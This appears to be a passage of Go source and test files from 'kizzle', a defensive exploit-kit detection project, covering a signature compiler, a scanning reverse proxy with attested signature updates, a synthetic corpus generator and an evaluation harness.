	uncertified := sigdb.New()
	if _, err := uncertified.Replace(res.Signatures, nil); err != nil {
		t.Fatal(err)
	}

	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/landing" {
			io.WriteString(w, kitDoc)
			return
		}
		io.WriteString(w, "<html><body>ok</body></html>")
	}))
	defer upstream.Close()

	startStrictGate := func(store *sigdb.Store) (http.Handler, http.Handler) {
		t.Helper()
		mux := http.NewServeMux()
		mux.Handle("/signatures", store.Handler())
		mux.Handle("/attest", store.AttestHandler())
		sigServer := httptest.NewServer(mux)
		t.Cleanup(sigServer.Close)
		ready := make(chan http.Handler, 2)
		go func() {
			// No -attesturl: the gate must derive it from -sigurl.
			if err := run([]string{
				"-upstream", upstream.URL,
				"-sigurl", sigServer.URL + "/signatures",
				"-strict", "-certkey", key,
				"-metricslisten", "127.0.0.1:0",
			}, ready); err != nil {
				t.Error(err)
			}
		}()
		var proxy, metrics http.Handler
		for i := 0; i < 2; i++ {
			select {
			case h := <-ready:
				if proxy == nil {
					proxy = h
				} else {
					metrics = h
				}
			case <-time.After(10 * time.Second):
				t.Fatal("strict gate never became ready")
			}
		}
		return proxy, metrics
	}
	gateMetrics := func(h http.Handler) map[string]json.RawMessage {
		t.Helper()
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
		var m struct {
			Sigclient map[string]json.RawMessage `json:"sigclient"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &m); err != nil {
			t.Fatalf("metrics not JSON: %v", err)
		}
		return m.Sigclient
	}

	// Certified publisher: the gate arms from the attested set and blocks.
	proxy, metrics := startStrictGate(certified)
	front := httptest.NewServer(proxy)
	defer front.Close()
	resp, err := http.Get(front.URL + "/landing")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("kit landing through certified strict gate = %d, want 403", resp.StatusCode)
	}
	if sc := gateMetrics(metrics); string(sc["attest_verified"]) != "1" {
		t.Errorf("attest_verified = %s, want 1", sc["attest_verified"])
	}

	// Uncertified publisher: the strict gate refuses to deploy, so the kit
	// page passes through unblocked — and the rejection is counted.
	proxy, metrics = startStrictGate(uncertified)
	front2 := httptest.NewServer(proxy)
	defer front2.Close()
	resp, err = http.Get(front2.URL + "/landing")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("kit landing through unarmed strict gate = %d, want 200 (nothing deployed)", resp.StatusCode)
	}
	if sc := gateMetrics(metrics); string(sc["attest_rejected"]) != "1" {
		t.Errorf("attest_rejected = %s, want 1", sc["attest_rejected"])
	}
}

// TestSigfileFormat guards the on-disk contract: the file written by sigdb
// is plain JSON with a version and signatures array.
func TestSigfileFormat(t *testing.T) {
	day := synth.Date(time.August, 5)
	c := kizzle.New()
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	scfg := synth.DefaultConfig()
	scfg.BenignPerDay = 20
	stream, err := synth.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	res, err := c.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "sigs.json")
	store, err := sigdb.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.Replace(res.Signatures, nil); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Version    int64             `json:"version"`
		Signatures []json.RawMessage `json:"signatures"`
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Version != 1 || len(doc.Signatures) == 0 {
		t.Errorf("sigfile: version %d, %d signatures", doc.Version, len(doc.Signatures))
	}
}
