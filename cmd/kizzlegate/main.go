// Command kizzlegate runs the scanning reverse proxy (the paper's
// browser/CDN deployment channel): it fronts an upstream web server,
// scans HTML/JavaScript responses against the deployed Kizzle signature
// set, and blocks exploit-kit landings. Signatures come from a local
// sigdb file and/or are kept current from a signature server — by
// default over the server-push watch stream (a publish reaches every
// replica in ~1 RTT), degrading to conditional jittered polling over
// per-family deltas when the server has no watch endpoint, so a one-kit
// update moves and recompiles one kit. Concurrent admissions coalesce
// into micro-batches that scan each distinct in-flight document once;
// with -verdicts, replicas also share scan verdicts through a fleet
// cache so a hot document is scanned once fleet-wide.
//
// Usage:
//
//	kizzlegate -listen :8080 -upstream http://origin:80 \
//	           [-sigfile sigs.json] [-sigurl http://sigserver/signatures] \
//	           [-watch=true] [-poll 1m] [-jitter 0.1] \
//	           [-verdicts http://sigserver/verdicts] [-verdictkey SECRET] \
//	           [-batchdocs 32] [-batchwait 500us] [-metricslisten :8081]
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net/http"
	"net/url"
	"os"
	"time"

	"kizzle/gateway"
	"kizzle/internal/servemetrics"
	"kizzle/internal/verdictcache"
	"kizzle/sigdb"
)

func main() {
	if err := run(os.Args[1:], nil); err != nil {
		fmt.Fprintln(os.Stderr, "kizzlegate:", err)
		os.Exit(1)
	}
}

// run configures the gate. When ready is non-nil, the configured proxy
// handler is sent to it instead of binding a listener, followed by the
// /metrics handler when -metricslisten is set (test hook).
func run(args []string, ready chan<- http.Handler) error {
	fs := flag.NewFlagSet("kizzlegate", flag.ContinueOnError)
	listen := fs.String("listen", ":8080", "address to serve on")
	upstream := fs.String("upstream", "", "origin URL to proxy (required)")
	sigfile := fs.String("sigfile", "", "local sigdb JSON file to load")
	sigurl := fs.String("sigurl", "", "signature server URL to poll for updates")
	poll := fs.Duration("poll", time.Minute, "signature poll interval (watch fallback cadence)")
	jitter := fs.Float64("jitter", 0.1, "poll jitter fraction (±), spreads replica polls")
	watch := fs.Bool("watch", true, "prefer the server-push watch stream over polling (falls back automatically)")
	verdictsURL := fs.String("verdicts", "", "shared verdict cache URL (e.g. http://sigserver/verdicts); empty disables fleet verdict sharing")
	verdictKey := fs.String("verdictkey", "", "HMAC key for signing shared verdict publishes (the publisher's -verdictkey)")
	batchDocs := fs.Int("batchdocs", 32, "admission micro-batch size (0 disables batching)")
	batchWait := fs.Duration("batchwait", 500*time.Microsecond, "admission window: how long the first document waits for company")
	metricsListen := fs.String("metricslisten", "", "admin address to serve /metrics on (empty disables)")
	strict := fs.Bool("strict", false, "refuse uncertified signature updates: every fetched set must carry a verifiable attestation")
	certKey := fs.String("certkey", "", "HMAC key for verifying attestation signatures (share with the publisher)")
	attestURL := fs.String("attesturl", "", "attestation endpoint (default: -sigurl with its path replaced by /attest)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *upstream == "" {
		return fmt.Errorf("-upstream is required")
	}
	if *sigfile == "" && *sigurl == "" {
		return fmt.Errorf("one of -sigfile or -sigurl is required")
	}
	if (*strict || *certKey != "" || *attestURL != "") && *sigurl == "" {
		return fmt.Errorf("-strict/-certkey/-attesturl require -sigurl")
	}
	if !*strict && (*certKey != "" || *attestURL != "") {
		return fmt.Errorf("-certkey/-attesturl require -strict")
	}
	if *verdictsURL != "" && *batchDocs <= 0 {
		return fmt.Errorf("-verdicts requires admission batching (-batchdocs > 0)")
	}
	if *verdictKey != "" && *verdictsURL == "" {
		return fmt.Errorf("-verdictkey requires -verdicts")
	}
	target, err := url.Parse(*upstream)
	if err != nil || target.Scheme == "" {
		return fmt.Errorf("bad -upstream %q", *upstream)
	}

	vetter := gateway.NewVetter(nil)
	if *sigfile != "" {
		store, err := sigdb.Open(*sigfile)
		if err != nil {
			return err
		}
		snap := store.Snapshot()
		m, _, err := snap.Matcher()
		if err != nil {
			return err
		}
		vetter.Update(m)
		vetter.SetVersion(snap.Version)
		log.Printf("loaded signature set v%d from %s", snap.Version, *sigfile)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	pollDone := make(chan struct{})
	var client *sigdb.Client
	if *sigurl != "" {
		client = &sigdb.Client{URL: *sigurl, Jitter: *jitter}
		if *strict {
			// Certified serving: a fetched set without a matching, (when
			// keyed) signed attestation never deploys — the gate keeps
			// serving the last attested version and logs each rejection.
			client.Strict = true
			client.CertKey = []byte(*certKey)
			client.AttestURL = *attestURL
			if client.AttestURL == "" {
				u, err := url.Parse(*sigurl)
				if err != nil {
					return fmt.Errorf("bad -sigurl %q: %v", *sigurl, err)
				}
				u.Path = "/attest"
				u.RawQuery = ""
				client.AttestURL = u.String()
			}
			log.Printf("strict mode: requiring attestations from %s", client.AttestURL)
		}
		deploy := func(snap sigdb.Snapshot) {
			// The client compiled the set to validate it (incrementally,
			// per changed family); deploy that compilation rather than
			// paying for a second one.
			m, _ := client.Matcher()
			if m == nil {
				var err error
				if m, _, err = snap.Matcher(); err != nil {
					log.Printf("rejecting signature update v%d: %v", snap.Version, err)
					return
				}
			}
			vetter.Update(m)
			vetter.SetVersion(snap.Version)
			log.Printf("deployed signature set v%d (%d signatures)", snap.Version, len(snap.Signatures))
		}
		// Arm the gate before serving: fetch once synchronously so a
		// replica never admits traffic with an empty signature set just
		// because its first poll tick hasn't fired. The poll loop's own
		// immediate fetch then costs one 304.
		if snap, updated, err := client.Fetch(ctx); err != nil {
			log.Printf("initial signature fetch: %v", err)
		} else if updated {
			deploy(snap)
		}
		go func() {
			defer close(pollDone)
			onErr := func(err error) { log.Printf("signature update: %v", err) }
			if *watch {
				client.Run(ctx, *poll, deploy, onErr)
			} else {
				client.Poll(ctx, *poll, deploy, onErr)
			}
		}()
	} else {
		close(pollDone)
	}

	proxy := gateway.NewProxy(target, vetter)
	var admit *gateway.Admitter
	var verdicts *verdictcache.HTTPStore
	if *batchDocs > 0 {
		admit = gateway.NewAdmitter(vetter, *batchDocs, *batchWait)
		defer admit.Close()
		if *verdictsURL != "" {
			verdicts = &verdictcache.HTTPStore{URL: *verdictsURL, Key: []byte(*verdictKey)}
			admit.UseSharedStore(verdicts)
			log.Printf("sharing verdicts through %s", *verdictsURL)
		}
		proxy.UseAdmitter(admit)
	}

	metrics := servemetrics.Handler(func() map[string]any {
		out := map[string]any{
			"vetter":  vetter.Metrics(),
			"runtime": servemetrics.RuntimeStats(),
		}
		if admit != nil {
			out["admitter"] = admit.Metrics()
		}
		if client != nil {
			out["sigclient"] = client.Metrics()
		}
		if verdicts != nil {
			out["verdict_store"] = verdicts.Metrics()
		}
		return out
	})

	if ready != nil {
		ready <- proxy
		if *metricsListen != "" {
			ready <- metrics
		}
		cancel()
		<-pollDone
		return nil
	}
	if *metricsListen != "" {
		mux := http.NewServeMux()
		mux.Handle("/metrics", metrics)
		go func() {
			log.Printf("kizzlegate metrics on %s/metrics", *metricsListen)
			if err := http.ListenAndServe(*metricsListen, mux); err != nil {
				log.Printf("metrics listener: %v", err)
			}
		}()
	}
	log.Printf("kizzlegate proxying %s on %s", target, *listen)
	err = http.ListenAndServe(*listen, proxy)
	cancel()
	<-pollDone
	return err
}
