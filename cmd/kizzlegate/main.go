// Command kizzlegate runs the scanning reverse proxy (the paper's
// browser/CDN deployment channel): it fronts an upstream web server,
// scans HTML/JavaScript responses against the deployed Kizzle signature
// set, and blocks exploit-kit landings. Signatures come from a local
// sigdb file and/or are kept current by polling a signature server.
//
// Usage:
//
//	kizzlegate -listen :8080 -upstream http://origin:80 \
//	           [-sigfile sigs.json] [-sigurl http://sigserver/signatures] \
//	           [-poll 1m]
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net/http"
	"net/url"
	"os"
	"time"

	"kizzle/gateway"
	"kizzle/sigdb"
)

func main() {
	if err := run(os.Args[1:], nil); err != nil {
		fmt.Fprintln(os.Stderr, "kizzlegate:", err)
		os.Exit(1)
	}
}

// run configures the gate. When ready is non-nil, the configured handler
// is sent to it instead of binding a listener (test hook).
func run(args []string, ready chan<- http.Handler) error {
	fs := flag.NewFlagSet("kizzlegate", flag.ContinueOnError)
	listen := fs.String("listen", ":8080", "address to serve on")
	upstream := fs.String("upstream", "", "origin URL to proxy (required)")
	sigfile := fs.String("sigfile", "", "local sigdb JSON file to load")
	sigurl := fs.String("sigurl", "", "signature server URL to poll for updates")
	poll := fs.Duration("poll", time.Minute, "signature poll interval")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *upstream == "" {
		return fmt.Errorf("-upstream is required")
	}
	if *sigfile == "" && *sigurl == "" {
		return fmt.Errorf("one of -sigfile or -sigurl is required")
	}
	target, err := url.Parse(*upstream)
	if err != nil || target.Scheme == "" {
		return fmt.Errorf("bad -upstream %q", *upstream)
	}

	vetter := gateway.NewVetter(nil)
	if *sigfile != "" {
		store, err := sigdb.Open(*sigfile)
		if err != nil {
			return err
		}
		snap := store.Snapshot()
		m, _, err := snap.Matcher()
		if err != nil {
			return err
		}
		vetter.Update(m)
		log.Printf("loaded signature set v%d from %s", snap.Version, *sigfile)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	pollDone := make(chan struct{})
	if *sigurl != "" {
		client := &sigdb.Client{URL: *sigurl}
		go func() {
			defer close(pollDone)
			client.Poll(ctx, *poll, func(snap sigdb.Snapshot) {
				m, _, err := snap.Matcher()
				if err != nil {
					log.Printf("rejecting signature update v%d: %v", snap.Version, err)
					return
				}
				vetter.Update(m)
				log.Printf("deployed signature set v%d (%d signatures)", snap.Version, len(snap.Signatures))
			}, func(err error) {
				log.Printf("signature poll: %v", err)
			})
		}()
	} else {
		close(pollDone)
	}

	proxy := gateway.NewProxy(target, vetter)
	if ready != nil {
		ready <- proxy
		cancel()
		<-pollDone
		return nil
	}
	log.Printf("kizzlegate proxying %s on %s", target, *listen)
	err = http.ListenAndServe(*listen, proxy)
	cancel()
	<-pollDone
	return err
}
