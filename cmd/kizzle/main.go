// Command kizzle runs the signature compiler over a directory of captured
// HTML/JS samples: it clusters them, labels clusters against a directory of
// known unpacked kit payloads, and prints (or writes) the generated
// signatures.
//
// Usage:
//
//	kizzle -samples corpus/ -known known/ [-json sigs.json] [-eps 0.10]
//
// The -known directory holds one file per known payload, named
// <family>.<anything> (e.g. nuclear.txt, rig-0803.txt); the part before the
// first '.' or '-' is the family label (case-insensitive match against
// rig/nuclear/angler/sweetorange is normalized to the paper's names).
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"kizzle"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "kizzle:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("kizzle", flag.ContinueOnError)
	samplesDir := fs.String("samples", "", "directory of .html/.js samples (required)")
	knownDir := fs.String("known", "", "directory of known unpacked kit payloads (required)")
	jsonOut := fs.String("json", "", "write signatures as JSON to this file")
	eps := fs.Float64("eps", 0.10, "DBSCAN normalized edit-distance threshold")
	minPts := fs.Int("minpts", 2, "DBSCAN minimum cluster size")
	slack := fs.Int("slack", 0, "signature length slack")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *samplesDir == "" || *knownDir == "" {
		return fmt.Errorf("-samples and -known are required")
	}

	c := kizzle.New(
		kizzle.WithEps(*eps),
		kizzle.WithMinPts(*minPts),
		kizzle.WithSignatureSlack(*slack),
	)
	nKnown, err := loadKnown(c, *knownDir)
	if err != nil {
		return err
	}
	samples, err := loadSamples(*samplesDir)
	if err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "loaded %d samples, %d known payloads\n", len(samples), nKnown)

	res, err := c.Process(samples)
	if err != nil {
		return err
	}
	fmt.Printf("clusters: %d (%d malicious), unique token sequences: %d\n",
		res.Stats.Clusters, res.Stats.MaliciousClusters, res.Stats.UniqueSequences)
	for _, cl := range res.Clusters {
		if cl.Family == "" {
			continue
		}
		fmt.Printf("\ncluster %s: %d samples, overlap %.1f%%\n", cl.Family, len(cl.SampleIDs), 100*cl.Overlap)
		if cl.SignatureIndex >= 0 {
			sig := res.Signatures[cl.SignatureIndex]
			fmt.Printf("signature (%d tokens, %d chars):\n%s\n", sig.TokenLength(), sig.Length(), sig.Regex())
		}
	}
	if *jsonOut != "" {
		return writeJSON(*jsonOut, res.Signatures)
	}
	return nil
}

// canonicalFamily normalizes file-name prefixes to the paper's kit names.
func canonicalFamily(prefix string) string {
	switch strings.ToLower(prefix) {
	case "rig":
		return "RIG"
	case "nuclear", "nek":
		return "Nuclear"
	case "angler", "ang":
		return "Angler"
	case "sweetorange", "sweet_orange", "so":
		return "Sweet Orange"
	default:
		return prefix
	}
}

func loadKnown(c *kizzle.Compiler, dir string) (int, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return 0, fmt.Errorf("read known dir: %w", err)
	}
	n := 0
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		name := e.Name()
		cut := strings.IndexAny(name, ".-")
		if cut < 0 {
			cut = len(name)
		}
		body, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return n, err
		}
		c.AddKnown(canonicalFamily(name[:cut]), string(body))
		n++
	}
	if n == 0 {
		return 0, fmt.Errorf("no known payloads in %s", dir)
	}
	return n, nil
}

func loadSamples(dir string) ([]kizzle.Sample, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("read samples dir: %w", err)
	}
	var out []kizzle.Sample
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		ext := strings.ToLower(filepath.Ext(e.Name()))
		if ext != ".html" && ext != ".htm" && ext != ".js" {
			continue
		}
		body, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			return nil, err
		}
		out = append(out, kizzle.Sample{ID: e.Name(), Content: string(body)})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	if len(out) == 0 {
		return nil, fmt.Errorf("no .html/.js samples in %s", dir)
	}
	return out, nil
}

// sigJSON is the serialized signature format.
type sigJSON struct {
	Family      string `json:"family"`
	Regex       string `json:"regex"`
	TokenLength int    `json:"tokenLength"`
	Length      int    `json:"length"`
}

func writeJSON(path string, sigs []kizzle.Signature) error {
	out := make([]sigJSON, len(sigs))
	for i, s := range sigs {
		out[i] = sigJSON{Family: s.Family(), Regex: s.Regex(), TokenLength: s.TokenLength(), Length: s.Length()}
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}
