package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"kizzle/synth"
)

// buildDirs writes a small sample corpus and known-payload directory.
func buildDirs(t *testing.T) (samplesDir, knownDir string) {
	t.Helper()
	samplesDir, knownDir = t.TempDir(), t.TempDir()
	day := synth.Date(time.August, 5)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 20
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.Day(day) {
		if err := os.WriteFile(filepath.Join(samplesDir, s.ID+".html"), []byte(s.Content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	names := map[string]string{"RIG": "rig", "Nuclear": "nuclear", "Angler": "angler", "Sweet Orange": "sweetorange"}
	for _, f := range synth.Kits() {
		if err := os.WriteFile(filepath.Join(knownDir, names[f.String()]+".txt"),
			[]byte(synth.Payload(f, day-1)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return samplesDir, knownDir
}

func TestRunEndToEnd(t *testing.T) {
	samplesDir, knownDir := buildDirs(t)
	out := filepath.Join(t.TempDir(), "sigs.json")
	if err := run([]string{"-samples", samplesDir, "-known", knownDir, "-json", out}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var sigs []sigJSON
	if err := json.Unmarshal(data, &sigs); err != nil {
		t.Fatal(err)
	}
	if len(sigs) == 0 {
		t.Fatal("no signatures written")
	}
	families := make(map[string]bool)
	for _, s := range sigs {
		families[s.Family] = true
		if s.Regex == "" || s.TokenLength == 0 {
			t.Errorf("degenerate signature: %+v", s)
		}
	}
	if !families["Angler"] {
		t.Errorf("families: %v", families)
	}
}

func TestRunValidation(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("missing flags must fail")
	}
	if err := run([]string{"-samples", t.TempDir(), "-known", t.TempDir()}); err == nil {
		t.Error("empty dirs must fail")
	}
}

func TestCanonicalFamily(t *testing.T) {
	tests := map[string]string{
		"rig": "RIG", "NEK": "Nuclear", "angler": "Angler", "so": "Sweet Orange",
		"custom": "custom",
	}
	for in, want := range tests {
		if got := canonicalFamily(in); got != want {
			t.Errorf("canonicalFamily(%q) = %q, want %q", in, got, want)
		}
	}
}
