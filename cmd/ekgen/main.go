// Command ekgen writes a synthetic grayware corpus to disk: one HTML file
// per sample plus a ground-truth manifest, for feeding external tools or
// the kizzle CLI.
//
// Usage:
//
//	ekgen -out corpus/ [-month 8] [-day 5] [-benign 200] [-malicious-only]
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"kizzle/synth"
)

// manifestEntry records one sample's ground truth.
type manifestEntry struct {
	File       string `json:"file"`
	ID         string `json:"id"`
	Family     string `json:"family"`
	BenignKind string `json:"benignKind,omitempty"`
	Day        string `json:"day"`
}

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "ekgen:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("ekgen", flag.ContinueOnError)
	out := fs.String("out", "", "output directory (required)")
	month := fs.Int("month", 8, "2014 month (6-8)")
	day := fs.Int("day", 5, "day of month")
	benign := fs.Int("benign", 200, "benign samples")
	maliciousOnly := fs.Bool("malicious-only", false, "emit only exploit-kit samples")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *out == "" {
		return fmt.Errorf("-out is required")
	}
	if *month < 6 || *month > 8 {
		return fmt.Errorf("-month %d outside the simulated window (6-8)", *month)
	}

	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = *benign
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return err
	}
	if err := os.MkdirAll(*out, 0o755); err != nil {
		return err
	}

	simDay := synth.Date(time.Month(*month), *day)
	samples := stream.Day(simDay)
	if *maliciousOnly {
		samples = stream.MaliciousDay(simDay)
	}
	manifest := make([]manifestEntry, 0, len(samples))
	for _, s := range samples {
		name := s.ID + ".html"
		if err := os.WriteFile(filepath.Join(*out, name), []byte(s.Content), 0o644); err != nil {
			return err
		}
		manifest = append(manifest, manifestEntry{
			File:       name,
			ID:         s.ID,
			Family:     s.Family.String(),
			BenignKind: s.BenignKind,
			Day:        synth.Label(s.Day),
		})
	}
	mf, err := os.Create(filepath.Join(*out, "manifest.json"))
	if err != nil {
		return err
	}
	defer mf.Close()
	enc := json.NewEncoder(mf)
	enc.SetIndent("", "  ")
	if err := enc.Encode(manifest); err != nil {
		return err
	}
	fmt.Printf("wrote %d samples to %s\n", len(samples), *out)
	return nil
}
