package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestRunWritesCorpusAndManifest(t *testing.T) {
	dir := t.TempDir()
	if err := run([]string{"-out", dir, "-day", "5", "-benign", "10"}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var manifest []manifestEntry
	if err := json.Unmarshal(data, &manifest); err != nil {
		t.Fatal(err)
	}
	if len(manifest) < 10 {
		t.Fatalf("manifest has %d entries", len(manifest))
	}
	families := make(map[string]bool)
	for _, e := range manifest {
		families[e.Family] = true
		body, err := os.ReadFile(filepath.Join(dir, e.File))
		if err != nil {
			t.Fatalf("sample file missing: %v", err)
		}
		if len(body) == 0 {
			t.Errorf("%s is empty", e.File)
		}
	}
	if !families["Benign"] || !families["Angler"] {
		t.Errorf("families in manifest: %v", families)
	}
}

func TestRunMaliciousOnly(t *testing.T) {
	dir := t.TempDir()
	if err := run([]string{"-out", dir, "-day", "5", "-malicious-only"}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var manifest []manifestEntry
	if err := json.Unmarshal(data, &manifest); err != nil {
		t.Fatal(err)
	}
	for _, e := range manifest {
		if e.Family == "Benign" {
			t.Fatalf("benign sample %s in malicious-only corpus", e.ID)
		}
	}
}

func TestRunValidation(t *testing.T) {
	if err := run([]string{"-day", "5"}); err == nil {
		t.Error("missing -out must fail")
	}
	if err := run([]string{"-out", t.TempDir(), "-month", "3"}); err == nil {
		t.Error("month outside window must fail")
	}
}
