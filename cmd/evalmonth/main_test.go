package main

import (
	"os"
	"path/filepath"
	"testing"
)

func TestRunStaticFigures(t *testing.T) {
	for _, fig := range []string{"2", "5"} {
		if err := run([]string{"-fig", fig}); err != nil {
			t.Errorf("-fig %s: %v", fig, err)
		}
	}
}

func TestRunShortWindow(t *testing.T) {
	if err := run([]string{"-days", "2", "-benign", "40", "-fig", "14"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunValidation(t *testing.T) {
	if err := run([]string{"-days", "0"}); err == nil {
		t.Error("days=0 must fail")
	}
	if err := run([]string{"-days", "2", "-benign", "30", "-fig", "bogus"}); err == nil {
		t.Error("unknown figure must fail")
	}
	if err := run([]string{"-days", "1", "-shards", "-1"}); err == nil {
		t.Error("negative shards must fail")
	}
	if err := run([]string{"-days", "1", "-cachemb", "0", "-cachedir", t.TempDir()}); err == nil {
		t.Error("-cachedir without a cache must fail")
	}
}

func TestRunSharded(t *testing.T) {
	if err := run([]string{"-days", "2", "-benign", "40", "-shards", "3", "-fig", "perf"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunPersistentCache(t *testing.T) {
	dir := t.TempDir()
	args := []string{"-days", "1", "-benign", "40", "-fig", "perf", "-cachedir", dir}
	// First run cold, second run restores the snapshot.
	if err := run(args); err != nil {
		t.Fatal(err)
	}
	if err := run(args); err != nil {
		t.Fatal(err)
	}
}

func TestRunShardedPersistentCache(t *testing.T) {
	dir := t.TempDir()
	args := []string{"-days", "1", "-benign", "40", "-fig", "perf", "-shards", "2", "-cachedir", dir}
	// Both the coordinator cache and each shard's verdict cache must
	// survive the save/load cycle.
	if err := run(args); err != nil {
		t.Fatal(err)
	}
	for _, sub := range []string{"shard-0", "shard-1"} {
		if _, err := os.Stat(filepath.Join(dir, sub)); err != nil {
			t.Fatalf("worker cache dir %s missing after run: %v", sub, err)
		}
	}
	if err := run(args); err != nil {
		t.Fatal(err)
	}
}
