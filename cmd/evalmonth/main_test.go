package main

import "testing"

func TestRunStaticFigures(t *testing.T) {
	for _, fig := range []string{"2", "5"} {
		if err := run([]string{"-fig", fig}); err != nil {
			t.Errorf("-fig %s: %v", fig, err)
		}
	}
}

func TestRunShortWindow(t *testing.T) {
	if err := run([]string{"-days", "2", "-benign", "40", "-fig", "14"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunValidation(t *testing.T) {
	if err := run([]string{"-days", "0"}); err == nil {
		t.Error("days=0 must fail")
	}
	if err := run([]string{"-days", "2", "-benign", "30", "-fig", "bogus"}); err == nil {
		t.Error("unknown figure must fail")
	}
}
