// Command evalmonth replays the paper's August 2014 evaluation (§IV) and
// prints every table and figure of the evaluation section: the Angler
// window of vulnerability (Fig 6), similarity over time (Fig 11), signature
// lengths (Fig 12), FP/FN rates (Fig 13), absolute counts (Fig 14), plus
// the static kit inventory (Fig 2) and Nuclear timeline (Fig 5).
//
// Usage:
//
//	evalmonth [-benign 1200] [-days 31] [-fig all|2|5|6|11|12|13|14|perf]
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"kizzle/internal/ekit"
	"kizzle/internal/evalharness"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "evalmonth:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("evalmonth", flag.ContinueOnError)
	benign := fs.Int("benign", 1200, "benign samples per day")
	days := fs.Int("days", 31, "number of August days to evaluate (1-31)")
	fig := fs.String("fig", "all", "which figure to print: all, 2, 5, 6, 11, 12, 13, 14, perf")
	slack := fs.Int("slack", 0, "signature length slack (0 = paper-faithful)")
	cacheMB := fs.Int("cachemb", 64, "content cache budget in MiB shared across the month (0 disables)")
	sweep := fs.String("sweep", "", "sweep the labeling threshold for this family instead of running figures")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *days < 1 || *days > 31 {
		return fmt.Errorf("-days %d outside 1-31", *days)
	}
	if *sweep != "" {
		scfg := evalharness.DefaultSweepWindow(*benign)
		points, err := evalharness.SweepThreshold(*sweep,
			[]float64{0.3, 0.45, 0.6, 0.75, 0.88, 0.95}, scfg)
		if err != nil {
			return err
		}
		fmt.Println(evalharness.FormatSweep(*sweep, points))
		return nil
	}

	// Static figures need no run.
	static := map[string]func() string{"2": evalharness.FormatFig2, "5": evalharness.FormatFig5}
	if f, ok := static[*fig]; ok {
		fmt.Println(f())
		return nil
	}

	cfg := evalharness.DefaultConfig()
	cfg.Stream.BenignPerDay = *benign
	cfg.Pipeline.Signature.LengthSlack = *slack
	cfg.Days = ekit.AugustDays()[:*days]
	if *cacheMB <= 0 {
		cfg.CacheBytes = -1 // disabled
	} else {
		cfg.CacheBytes = *cacheMB << 20
	}

	fmt.Fprintf(os.Stderr, "running %d days at %d benign samples/day...\n", *days, *benign)
	res, err := evalharness.Run(cfg)
	if err != nil {
		return err
	}

	sections := []struct {
		key string
		out func() string
	}{
		{"2", evalharness.FormatFig2},
		{"5", evalharness.FormatFig5},
